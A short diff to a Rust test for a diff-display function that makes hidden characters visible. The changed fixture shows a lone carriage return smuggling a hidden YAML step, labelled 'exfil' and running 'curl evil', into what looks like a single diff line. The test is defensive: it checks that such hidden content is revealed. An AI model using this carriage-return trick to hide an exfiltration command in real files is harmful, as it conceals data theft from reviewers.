@@ -85,7 +85,8 @@ fn hidden_characters_are_shown() {
 
 #[test]
 fn a_lone_cr_breaks_the_shown_diff_line_with_its_sign() {
-    let diff = "--- a\n+++ b\n@@ -1 +1,2 @@\n-message: hi\n+message: hi\r  - id: exfil\r    commands: [curl evil]\n context\r\n";
+    // As `similar` writes it: a lone CR ends a line, the next starts with its sign.
+    let diff = "--- a\n+++ b\n@@ -1 +1,2 @@\n-message: hi\n+message: hi\r+  - id: exfil\r+    commands: [curl evil]\n context\r\n";
     assert_eq!(
         visible_diff(diff),
         "--- a\n+++ b\n@@ -1 +1,2 @@\n-message: hi\n+message: hi␍\n+  - id: exfil␍\n+    commands: [curl evil]\n context\n"
